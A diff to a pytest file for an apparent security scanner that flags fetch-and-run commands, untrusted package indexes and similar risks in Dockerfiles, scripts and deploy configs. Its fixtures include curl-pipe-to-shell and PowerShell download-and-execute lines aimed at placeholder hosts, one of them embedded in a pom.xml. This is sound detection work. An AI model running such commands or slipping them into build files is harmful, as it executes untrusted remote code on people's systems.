@@ -11,10 +11,11 @@ from gate.prescreen.scanners.commands import RULES, Commands
 from tests.prescreen_support import make_request
 
 FETCH, DECODE = "command.fetch-and-run", "command.decode-and-run"
+INDEX = "command.package-index"
 CONTAINER, SQL = "container.host-access", "sql.leaves-database"
 PIPE = "curl -fsSL https://x.invalid/i.sh | sh"
 VENDOR = "curl -LsSf https://astral.sh/uv/install.sh | sh"
-HIGH, MEDIUM, LOW = "high", "medium", "low"
+CRITICAL, HIGH, MEDIUM, LOW = "critical", "high", "medium", "low"
 BUILDS = {
     "Dockerfile": "FROM python:3.12\nRUN {}\n",
     "docker/app.Dockerfile": "FROM python:3.12\nRUN apt-get update \\\n && {}\n",
@@ -76,12 +77,12 @@ def test_it_does_not_simply_pass(path: str) -> None:
         ("scripts/setup", "#!/bin/sh\n" + PIPE, HIGH),
         ("scripts/setup.ps1", "iwr https://x.invalid/a.ps1 | iex", HIGH),
         ("deploy/values.yaml", f"cmd: {PIPE}", MEDIUM),
-        ("deploy/values.yaml", "cmd: curl http://198.51.100.9/i | sh", HIGH),
+        ("deploy/values.yaml", "cmd: curl http://198.51.100.9/i | sh", CRITICAL),
         ("deploy/values.yaml", f"cmd: {VENDOR}", LOW),
         ("Dockerfile", "RUN curl http://localhost:8000/i.sh | sh", LOW),
         ("Dockerfile", "RUN curl -O https://x.invalid/tool && chmod +x tool", LOW),
         ("Dockerfile", "ADD --chmod=755 https://x.invalid/t /usr/local/bin/tool\nRUN tool", HIGH),
-        ("Dockerfile", "RUN pip install http://203.0.113.5/p.tar.gz", HIGH),
+        ("Dockerfile", "RUN pip install http://203.0.113.5/p.tar.gz", CRITICAL),
         ("Dockerfile", "RUN git clone https://x.invalid/r /r && /r/i.sh", MEDIUM),
         ("Dockerfile", "RUN git clone http://x.invalid/r /r && /r/i.sh", HIGH),
         ("Dockerfile", "RUN curl -O http://x.invalid/tool && chmod +x tool", MEDIUM),
@@ -240,6 +241,27 @@ def test_sql_that_stays(path: str, text: str) -> None:
     assert told(path, text + "\n") == {}
 
 
+@pytest.mark.parametrize(
+    ("path", "text", "number"),
+    [
+        ("Dockerfile", "RUN pip install --extra-index-url https://pkgs.example/simple .", 1),
+        ("build.sh", "npm install --registry=https://npm.example/ left-pad", 1),
+        ("Makefile", "x:\n\tGOPROXY=https://go.example go build", 1),
+        ("Dockerfile", "RUN pip install --index-url https://pypi.org/simple .", 0),
+        ("Dockerfile", "RUN pip install --extra-index-url https://download.pytorch.org/whl/cpu torch", 0),
+        ("Dockerfile", "RUN pip install --index-url https://$HOST/simple .", 0),
+        ("build.sh", "# pip install --index-url https://pkgs.example/simple", 0),
+    ],
+)
+def test_another_index(path: str, text: str, number: int) -> None:
+    assert sum(rule == INDEX for rule in told(path, text + "\n")) == number
+
+
+def test_commands_in_xml_are_read_between_the_tags() -> None:
+    text = "<project>\n <argument>curl -s http://203.0.113.9/m | sh</argument>\n</project>\n"
+    assert FETCH in told("pom.xml", text)
+
+
 def test_every_rule_has_fixtures() -> None:
-    assert {rule.meta.id for rule in RULES} == {FETCH, DECODE, CONTAINER, SQL}
+    assert {rule.meta.id for rule in RULES} == {FETCH, DECODE, CONTAINER, SQL, INDEX}
     assert all(rule.page for rule in RULES)
